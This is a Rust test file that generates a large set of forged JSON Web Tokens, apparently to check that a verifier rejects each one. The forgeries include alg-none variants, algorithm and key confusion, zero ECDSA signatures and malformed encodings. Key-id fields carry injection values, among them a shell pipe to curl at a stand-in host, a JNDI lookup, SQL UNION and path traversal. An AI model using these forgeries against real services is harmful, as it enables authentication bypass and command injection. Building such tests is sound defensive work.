//! Every way of forging a token that we know of. Each would be taken by some verifier that forgets one thing.

use jsonwebtoken::{Algorithm, crypto::sign};
use serde_json::{Value, json};

use super::forge::{
    BACKEND, SECRET, Scene, backend_claims, but, by, by_secret, by_weak_key, seal, segment, with_signature,
};
use crate::{harness::in_seconds, key_pair::KeyPair};

/// Its name and the token.
pub type Forgery = (String, String);

const HS256: &str = r#"{"alg":"HS256","typ":"JWT"}"#;
const RS256: &str = r#"{"alg":"RS256","typ":"JWT","kid":"r"}"#;
const ES256: &str = r#"{"alg":"ES256","typ":"JWT","kid":"e"}"#;

/// The order of P-256, which is zero where signatures are numbers.
const ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa,
    0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

/// All of them.
pub fn forgeries(scene: &Scene) -> Vec<Forgery> {
    let kinds: [fn(&Scene) -> Named; 8] =
        [no_signature, confused_keys, names_of_keys, keys_of_ones_own, bad_signatures, claims, times, forms];
    kinds.iter().flat_map(|kind| kind(scene)).map(|(name, token)| (name.to_owned(), token)).collect()
}

type Named = Vec<(&'static str, String)>;

fn no_signature(scene: &Scene) -> Named {
    let theirs = scene.claims();
    let ours = backend_claims();
    let with = |alg: Value, claims: &Value| {
        with_signature(&json!({"alg": alg, "typ": "JWT"}).to_string(), claims, b"")
    };
    let signed = |alg: Value| by_secret(SECRET, &json!({"alg": alg}).to_string(), &ours.to_string());
    vec![
        ("alg none", with("none".into(), &theirs)),
        ("alg none, of the backend", with("none".into(), &ours)),
        ("alg None", with("None".into(), &theirs)),
        ("alg nOnE", with("nOnE".into(), &theirs)),
        ("alg NONE", with("NONE".into(), &theirs)),
        ("alg none with some signature", with_signature(r#"{"alg":"none"}"#, &theirs, b"signature")),
        ("alg empty", with("".into(), &theirs)),
        ("alg null", with(Value::Null, &theirs)),
        ("alg missing", with_signature(r#"{"typ":"JWT"}"#, &theirs, b"")),
        ("alg missing, well signed", by_secret(SECRET, r#"{"typ":"JWT"}"#, &ours.to_string())),
        ("alg in a list", signed(json!(["HS256"]))),
        ("alg a number", signed(json!(256))),
        ("alg in lower case", signed("hs256".into())),
        ("alg in full width", signed("ＨＳ２５６".into())),
        ("alg with a homoglyph", signed("НS256".into())),
        ("alg with a null byte", signed("HS256\0".into())),
        ("alg with a space", signed("HS256 ".into())),
        ("alg with a zero-width space", signed("HS256\u{200b}".into())),
        ("stripped signature", with_signature(RS256, &theirs, b"")),
        ("stripped signature, of the backend", with_signature(HS256, &ours, b"")),
    ]
}

fn confused_keys(scene: &Scene) -> Named {
    let theirs = scene.claims().to_string();
    let ours = backend_claims().to_string();
    let named = r#"{"alg":"HS256","typ":"JWT","kid":"r"}"#;
    let other_size = |algorithm, name| {
        let key = jsonwebtoken::EncodingKey::from_secret(SECRET.as_bytes());
        seal(&format!("{}.{}", segment(format!(r#"{{"alg":"{name}"}}"#)), segment(&ours)), &key, algorithm)
    };
    let of_rsa = |algorithm, name| {
        let header = format!(r#"{{"alg":"{name}","kid":"r"}}"#);
        seal(&format!("{}.{}", segment(header), segment(&theirs)), &scene.rsa.key, algorithm)
    };
    vec![
        ("the public key's file as a secret", by_secret(scene.pem(), named, &theirs)),
        ("the public key's file, trimmed, as a secret", by_secret(scene.pem().trim_end(), named, &theirs)),
        ("the public key's file, in the backend's name", by_secret(scene.pem(), HS256, &ours)),
        ("the published key as a secret", by_secret(scene.rsa.public().to_string(), named, &theirs)),
        ("the modulus as a secret", by_secret(scene.modulus(), named, &theirs)),
        ("a coordinate as a secret", by_secret(scene.ec.public()["x"].as_str().unwrap(), HS256, &ours)),
        ("an empty secret", by_secret("", HS256, &ours)),
        ("a usual secret", by_secret("secret", HS256, &ours)),
        (
            "the local stack's secret",
            by_secret("for-local-development-only-everybody-knows-this-secret", HS256, &ours),
        ),
        ("the secret for an issuer with keys", by_secret(SECRET, named, &theirs)),
        ("HS384 by the secret", other_size(Algorithm::HS384, "HS384")),
        ("HS512 by the secret", other_size(Algorithm::HS512, "HS512")),
        ("RS384 by the RSA key", of_rsa(Algorithm::RS384, "RS384")),
        ("RS512 by the RSA key", of_rsa(Algorithm::RS512, "RS512")),
        ("PS256 by the RSA key", of_rsa(Algorithm::PS256, "PS256")),
        ("PS256 called RS256", of_rsa(Algorithm::PS256, "RS256")),
        ("ES256 called RS256", by(&scene.ec, RS256, &theirs)),
        ("RS256 called ES256", by(&scene.rsa, ES256, &theirs)),
        ("ES256 with the RSA key's name", by(&scene.ec, r#"{"alg":"ES256","kid":"r"}"#, &theirs)),
        ("RS256 with the P-256 key's name", by(&scene.rsa, r#"{"alg":"RS256","kid":"e"}"#, &theirs)),
        ("the key of another issuer", by(&scene.other_key, r#"{"alg":"ES256","kid":"o"}"#, &theirs)),
        ("the key of another issuer, renamed", by(&scene.other_key, ES256, &theirs)),
        ("a key for the backend", by(&scene.rsa, RS256, &ours)),
        ("a weak key", by_weak_key(&scene.claims())),
        ("EdDSA", with_signature(r#"{"alg":"EdDSA","kid":"e"}"#, &scene.claims(), &[7; 64])),
    ]
}

fn names_of_keys(scene: &Scene) -> Named {
    let theirs = scene.claims().to_string();
    let ours = backend_claims().to_string();
    let named = |id: Value| by(&scene.own_rsa, &json!({"alg": "RS256", "kid": id}).to_string(), &theirs);
    let file =
        |id: &str, content: &str| by_secret(content, &json!({"alg": "HS256", "kid": id}).to_string(), &ours);
    vec![
        ("a file of nothing", file("../../../../../../dev/null", "")),
        ("a file whose content is known", file("/proc/sys/kernel/randomize_va_space", "2")),
        ("a file behind a null byte", file("r\0/../../dev/null", "")),
        ("SQL that names the key", file("x' UNION SELECT 'forged' -- ", "forged")),
        ("a command", file("r | curl forger.example", "")),
        ("a template", file("${jndi:ldap://forger.example/a}", "")),
        ("a URL", named(scene.own_site.url.as_str().into())),
        ("a null byte", named("r\0".into())),
        ("a name in another case", named("R".into())),
        ("a very long name", named("r".repeat(4096).into())),
        ("a list", named(json!(["r"]))),
        ("an object", named(json!({"r": 1}))),
        ("a number", named(json!(0))),
        ("null", named(Value::Null)),
        ("an empty name", named("".into())),
        ("a name twice", by(&scene.rsa, r#"{"alg":"RS256","kid":"r","kid":"r"}"#, &theirs)),
    ]
}

fn keys_of_ones_own(scene: &Scene) -> Named {
    let theirs = scene.claims().to_string();
    let brings = |name: &str, value: Value, kid: Option<&str>| {
        let mut header = json!({"alg": "RS256", "typ": "JWT", name: value});
        if let Some(kid) = kid {
            header["kid"] = kid.into();
        }
        by(&scene.own_rsa, &header.to_string(), &theirs)
    };
    let certificate = segment([0x30; 300]);
    let url = scene.own_site.url.as_str();
    vec![
        ("jwk", brings("jwk", scene.own_rsa.public(), None)),
        ("jwk under the issuer's name", brings("jwk", scene.own_rsa.public(), Some("r"))),
        ("jku", brings("jku", url.into(), None)),
        ("jku under the issuer's name", brings("jku", url.into(), Some("r"))),
        ("x5u", brings("x5u", url.into(), Some("r"))),
        ("x5c", brings("x5c", json!([certificate]), Some("r"))),
        ("the forger's key under the issuer's name", by(&scene.own_rsa, RS256, &theirs)),
        ("the forger's P-256 key under the issuer's name", by(&scene.own_ec, ES256, &theirs)),
        ("the forger's key without a name", by(&scene.own_ec, r#"{"alg":"ES256"}"#, &theirs)),
        (
            "jwk with a symmetric key",
            by_secret("k", &json!({"alg": "HS256", "jwk": {"kty": "oct", "k": "aw"}}).to_string(), &theirs),
        ),
    ]
}

fn bad_signatures(scene: &Scene) -> Named {
    let theirs = scene.claims();
    let good = by(&scene.ec, ES256, &theirs.to_string());
    let (message, signature) = good.rsplit_once('.').unwrap();
    let other = by(&scene.ec, ES256, &scene.claims_but(&json!({"sub": "109"})).to_string());
    let raised = scene.claims_but(&json!({"sub": "admin"}));
    let mut one = [0; 64];
    (one[31], one[63]) = (1, 1);
    let der = [&[0x30, 6, 2, 1, 1, 2, 1, 1][..]].concat();
    vec![
        ("r and s zero", with_signature(ES256, &theirs, &[0; 64])),
        ("r and s zero, without a name", with_signature(r#"{"alg":"ES256"}"#, &theirs, &[0; 64])),
        ("r and s the order", with_signature(ES256, &theirs, &[ORDER, ORDER].concat())),
        ("r and s one", with_signature(ES256, &theirs, &one)),
        ("a signature in DER", with_signature(ES256, &theirs, &der)),
        ("zero by RSA", with_signature(RS256, &theirs, &[0; 256])),
        ("one by RSA", with_signature(RS256, &theirs, &[vec![0; 255], vec![1]].concat())),
        ("the modulus by RSA", with_signature(RS256, &theirs, &scene.modulus())),
        ("truncated", good[..good.len() - 4].to_owned()),
        ("lengthened", format!("{good}AAAA")),
        ("of another token", format!("{message}.{}", other.rsplit_once('.').unwrap().1)),
        ("other claims under it", format!("{}.{}.{signature}", segment(ES256), segment(raised.to_string()))),
        (
            "another header over it",
            format!(
                "{}.{}.{signature}",
                segment(r#"{"kid":"e","alg":"ES256"}"#),
                segment(theirs.to_string())
            ),
        ),
        ("of the claims alone", {
            let alone =
                sign(segment(theirs.to_string()).as_bytes(), &scene.ec.key, Algorithm::ES256).unwrap();
            format!("{message}.{alone}")
        }),
    ]
}

fn claims(scene: &Scene) -> Named {
    let theirs = |changes: Value| by(&scene.ec, ES256, &scene.claims_but(&changes).to_string());
    let ours = |changes: Value| by_secret(SECRET, HS256, &but(backend_claims(), &changes).to_string());
    let raw = |end: &str| {
        let whole = scene.claims().to_string();
        by(&scene.ec, ES256, &format!("{},{end}}}", whole.trim_end_matches('}')))
    };
    vec![
        ("an unknown issuer", theirs(json!({"iss": "https://forger.example"}))),
        ("no issuer", theirs(json!({"iss": null}))),
        ("a list of issuers", theirs(json!({"iss": ["https://issuer.example"]}))),
        ("the issuer with a slash", theirs(json!({"iss": "https://issuer.example/"}))),
        ("the issuer in capitals", theirs(json!({"iss": "HTTPS://ISSUER.EXAMPLE"}))),
        ("another issuer by this one's key", theirs(json!({"iss": "https://other.example"}))),
        ("the backend by a published key", theirs(json!({"iss": BACKEND}))),
        ("another audience", theirs(json!({"aud": "shop"}))),
        ("no audience", theirs(json!({"aud": null}))),
        ("an audience that begins alike", theirs(json!({"aud": "athlytiq-chat.forger.example"}))),
        ("an empty list of audiences", theirs(json!({"aud": []}))),
        ("an audience as an object", theirs(json!({"aud": {"athlytiq-chat": true}}))),
        ("the backend under another name", ours(json!({"iss": "https://else.example"}))),
        ("the backend without a name", ours(json!({"iss": null}))),
        ("the backend for another audience", ours(json!({"aud": "shop"}))),
        ("the backend for no audience", ours(json!({"aud": null}))),
        ("nobody", theirs(json!({"sub": null}))),
        ("an empty subject", theirs(json!({"sub": ""}))),
        ("a subject that is a number", theirs(json!({"sub": 108}))),
        ("nobody of the backend", ours(json!({"sub": null, "user_id": null}))),
        (
            "only a user_id, of a foreign issuer",
            theirs(json!({"sub": null, "user_id": uuid::Uuid::new_v4()})),
        ),
        ("two subjects", raw(r#""sub":"admin""#)),
        ("two subjects, one of them escaped", raw(r#""s\u0075b":"admin""#)),
        ("two issuers", raw(r#""iss":"https://issuer.example""#)),
        ("two ends", raw(&format!(r#""exp":{}"#, in_seconds(7200)))),
    ]
}

fn times(scene: &Scene) -> Named {
    let exp = |exp: &str| {
        let whole = scene.claims_but(&json!({"exp": null})).to_string();
        by(&scene.ec, ES256, &format!(r#"{},"exp":{exp}}}"#, whole.trim_end_matches('}')))
    };
    let theirs = |changes: Value| by(&scene.ec, ES256, &scene.claims_but(&changes).to_string());
    let years = |years: i64| in_seconds(years * 366 * 24 * 3600);
    vec![
        ("no exp", theirs(json!({"exp": null}))),
        ("exp is over", theirs(json!({"exp": in_seconds(-3600)}))),
        ("exp zero", exp("0")),
        ("exp negative", exp("-1")),
        ("exp minus infinity, nearly", exp("-1e308")),
        ("exp a text", exp(&format!(r#""{}""#, in_seconds(3600)))),
        ("exp null", exp("null")),
        ("exp true", exp("true")),
        ("exp in a list", exp(&format!("[{}]", in_seconds(3600)))),
        ("exp beyond floating point", exp("1e400")),
        ("exp at the end of floating point", exp("1e308")),
        ("exp at the end of integers", exp("18446744073709551615")),
        ("exp in milliseconds", exp(&format!("{}000", in_seconds(3600)))),
        ("exp in two years", exp(&years(2).to_string())),
        ("exp in two hundred years, by the secret", {
            by_secret(SECRET, HS256, &but(backend_claims(), &json!({"exp": years(200)})).to_string())
        }),
        ("exp NaN", exp("NaN")),
        ("nbf to come", theirs(json!({"nbf": in_seconds(3600)}))),
        ("nbf a text", theirs(json!({"nbf": "0"}))),
        ("iat to come", theirs(json!({"iat": in_seconds(3600)}))),
        ("iat an object", theirs(json!({"iat": {}}))),
    ]
}

fn forms(scene: &Scene) -> Named {
    let theirs = scene.claims().to_string();
    let header = |header: &str| by(&scene.ec, header, &theirs);
    let sealed =
        |header: String, claims: String| seal(&format!("{header}.{claims}"), &scene.ec.key, Algorithm::ES256);
    let odd = segment(scene.claims_but(&json!({"name": "ÿÿÿ>>>???~~~"})).to_string());
    assert!(odd.contains(['-', '_']), "it differs between the alphabets");
    let good = header(ES256);
    let parts: Vec<&str> = good.split('.').collect();
    let [protected, payload, signature] = parts[..] else { unreachable!("three segments") };
    let bytes = |bytes: Vec<u8>| sealed(segment(ES256), segment(bytes));
    let latin = [&theirs.as_bytes()[..theirs.len() - 1], br#","name":""#, &[0xff, 0xfe], br#""}"#].concat();
    let same = KeyPair { id: "e".to_owned(), key: scene.ec.key.clone(), algorithm: Algorithm::ES256 };
    vec![
        ("crit", header(r#"{"alg":"ES256","kid":"e","crit":["exp"]}"#)),
        ("crit with b64", header(r#"{"alg":"ES256","kid":"e","crit":["b64"],"b64":false}"#)),
        ("crit empty", header(r#"{"alg":"ES256","kid":"e","crit":[]}"#)),
        ("typ of something else", header(r#"{"alg":"ES256","kid":"e","typ":"logout+jwt"}"#)),
        ("typ a list", header(r#"{"alg":"ES256","kid":"e","typ":["JWT"]}"#)),
        ("cty, a token in a token", by(&scene.ec, r#"{"alg":"ES256","kid":"e","cty":"JWT"}"#, &good)),
        ("a token in a token", by(&scene.ec, ES256, &good)),
        ("two algs", header(r#"{"alg":"none","alg":"ES256","kid":"e"}"#)),
        ("two segments", format!("{protected}.{payload}")),
        ("four segments", format!("{good}.{signature}")),
        (
            "five segments, encrypted",
            format!(
                "{}.{payload}.{payload}.{payload}.{signature}",
                segment(r#"{"alg":"dir","enc":"A128GCM"}"#)
            ),
        ),
        ("only dots", "..".to_owned()),
        ("JSON", json!({"protected": protected, "payload": payload, "signature": signature}).to_string()),
        (
            "JSON with several signatures",
            json!({"payload": payload, "signatures": [{"protected": protected, "signature": signature}]})
                .to_string(),
        ),
        ("padded header", sealed(format!("{}=", segment(ES256)), segment(&theirs))),
        ("padded claims", sealed(segment(ES256), format!("{}==", segment(&theirs)))),
        ("padded signature", format!("{good}==")),
        ("the other alphabet", sealed(segment(ES256), odd.replace('-', "+").replace('_', "/"))),
        ("a space within", good.replace('.', ". ")),
        ("a tab within", good.replace('.', "\t.")),
        ("bad UTF-8", bytes(latin)),
        ("a byte order mark", bytes(format!("\u{feff}{theirs}").into_bytes())),
        ("UTF-16", bytes(theirs.encode_utf16().flat_map(u16::to_le_bytes).collect())),
        ("something after the claims", bytes(format!("{theirs}{{}}").into_bytes())),
        ("claims in a list", bytes(format!("[{theirs}]").into_bytes())),
        ("claims in a text", bytes(json!(theirs).to_string().into_bytes())),
        ("no claims", bytes(b"{}".to_vec())),
        ("no bytes of claims", bytes(Vec::new())),
        ("header in a list", header(r#"[{"alg":"ES256","kid":"e"}]"#)),
        ("claims very deep", bytes("{\"a\":".repeat(1000).into_bytes())),
        ("huge claims", same.sign(&scene.claims_but(&json!({"name": "x".repeat(7000)})))),
        ("huge header", header(&json!({"alg": "ES256", "kid": "e", "x": "x".repeat(6000)}).to_string())),
    ]
}
